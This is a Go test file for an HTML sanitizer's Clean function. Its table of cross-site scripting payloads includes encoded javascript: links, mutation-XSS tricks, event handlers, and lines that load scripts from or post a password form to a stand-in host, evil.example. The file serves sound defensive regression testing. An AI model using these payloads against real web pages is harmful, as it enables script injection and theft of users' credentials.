package markup_test

import (
	"strings"
	"testing"

	"landfall/federation-core/markup"
)

// attacks are ways to get a script, a style or an address of another scheme into a page.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1);//<</script>`,
	`<script/xss src="https://evil.example/x.js"></script>`,
	`<img src=x onerror=alert(1)>`,
	`<img """><script>alert(1)</script>">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="https://a.example" onclick="alert(1)">x</a>`,
	`<a href='https://a.example' style='position:fixed;inset:0'>x</a>`,
	"<a href=\"https://a.example\"\nonmouseover\n=\nalert(1)>x</a>",
	`<a href="https://a.example/"/onclick=alert(1)//>x</a>`,
	`<a href="//evil.example">x</a>`,
	`<a href="https:evil.example">x</a>`,
	`<a href="https:///evil.example">x</a>`,
	`<a href="\\evil.example">x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p onclick=alert(1) class="mention">x</p>`,
	`<span class="mention&quot; onclick=&quot;alert(1)">x</span>`,
	`<span class='"><script>alert(1)</script>'>x</span>`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<form action="https://evil.example"><input name=password><button>x</button></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title></title><img src=x onerror=alert(1)>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><?php echo 1 ?>`,
	`<!DOCTYPE html [<!ENTITY x "y">]>&x;`,
	`</div></div></body><script>alert(1)</script>`,
	`<p><a href="https://a.example"><p></a><script>alert(1)</script>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<a href=\"java\x00script:alert(1)\">x</a>",
	"\xff<script>alert(1)</script>",
	`<x onclick=alert(1)>x</x>`,
	`<custom-element onclick=alert(1)>x</custom-element>`,
	`<a xlink:href="javascript:alert(1)" href="https://a.example" srcset=x ping="https://evil.example">x</a>`,
	`<a href="https://a.example" target="_self" rel="opener">x</a>`,
	strings.Repeat("<b>", 100) + "x" + strings.Repeat("</i>", 100),
	strings.Repeat("<a href='https://a.example'>", 40),
}

// A4 and row 13 of the security table (CVE-2025-68475): what strangers send is shown,
// never run. harmless reads the result as a browser does.
func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		harmless(t, attack)
		for _, word := range []string{"<script", "<img", "<svg", "<style", "<iframe", "onerror=\"", " onclick=\"", "href=\"java", "href=\"data"} {
			if out := markup.Clean(attack); strings.Contains(strings.ToLower(out), word) {
				t.Errorf("Clean(%q) = %q", attack, out)
			}
		}
	}
}
